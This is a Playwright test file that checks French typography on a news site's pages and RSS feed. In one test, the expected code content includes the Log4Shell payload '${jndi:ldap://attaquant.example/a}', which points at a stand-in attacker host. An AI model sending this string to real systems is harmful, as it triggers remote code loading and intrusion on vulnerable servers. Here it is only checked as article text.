import { expect, test, type APIRequestContext } from '@playwright/test';
import { parseFeed } from 'feedsmith';
import { SEED_PATH } from './constants';
import { getSiteOrigin } from './crawler';

const ANSSI = '/articles/anssi-antennes-huawei-5g';
const ANSSI_HEADLINE = '5G\u202F: sans l’interdire, la France organise le reflux de Huawei';
const LOG4SHELL = '/articles/log4shell-faille-log4j';

/** The one JSON-LD element of a page, parsed. */
async function readArticleNode(path: string, request: APIRequestContext) {
  const html = await (await request.get(path)).text();
  const json = /<script type="application\/ld\+json">([^<]*)<\/script>/.exec(html)?.[1] ?? '{}';
  const graph: Record<string, unknown>[] = JSON.parse(json)['@graph'] ?? [];
  return { html, news: graph.find((node) => node['@type'] === 'NewsArticle') };
}

test.describe('French typography in the built site', () => {
  test('headline, <title>, meta description and JSON-LD are typeset', async ({ request }) => {
    const { html, news } = await readArticleNode(ANSSI, request);
    expect(news?.headline).toBe(ANSSI_HEADLINE);
    expect(html).toMatch(new RegExp(`<h1[^>]*>${ANSSI_HEADLINE}</h1>`));
    expect(html).toMatch(new RegExp(`<title>${ANSSI_HEADLINE}[^<]*</title>`));
    const seed = await readArticleNode(SEED_PATH, request);
    const description =
      'Le partenariat attendu entre Huawei et AT&T pour vendre le Mate 10 Pro aux Etats-Unis ne s’est pas concrétisé au CES de Las Vegas, sur fond de soupçons de cyberespionnage.';
    expect(seed.news?.description).toBe(description);
    expect(seed.html).toContain(
      `<meta name="description" content="${description.replace('&', '&amp;')}"/>`,
    );
  });

  test('the RSS item title and description are typeset', async ({ request }) => {
    const origin = await getSiteOrigin(request);
    const parsed = parseFeed(await (await request.get('/flux/rss.xml')).text());
    if (parsed.format !== 'rss') throw new Error('not RSS');
    const items = parsed.feed.items ?? [];
    const anssi = items.find((item) => item.link === `${origin}${ANSSI}`);
    expect(anssi?.title).toBe(ANSSI_HEADLINE);
    const seed = items.find((item) => item.link === `${origin}${SEED_PATH}`);
    expect(seed?.description).toContain('ne s’est pas concrétisé');
    expect(seed?.content?.encoded).toContain('avec Huawei\u202F? Les médias');
  });

  test('code and links keep their characters as typed', async ({ page }) => {
    await page.goto(LOG4SHELL);
    const code = await page.locator('.article-body code').allTextContents();
    expect(code).toEqual([
      'log.info("Connexion refusée : " + nom)',
      '${jndi:ldap://attaquant.example/a}',
    ]);
    // The prose around them is typeset.
    expect(await page.locator('.article-body').textContent()).toContain(
      'Il suffit qu’un programme contienne',
    );
    const hrefs = await page
      .locator('main a[href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    expect(hrefs.length).toBeGreaterThan(0);
    for (const href of hrefs) expect(href).not.toMatch(/[\u202F\u00A0’]/);
  });
});
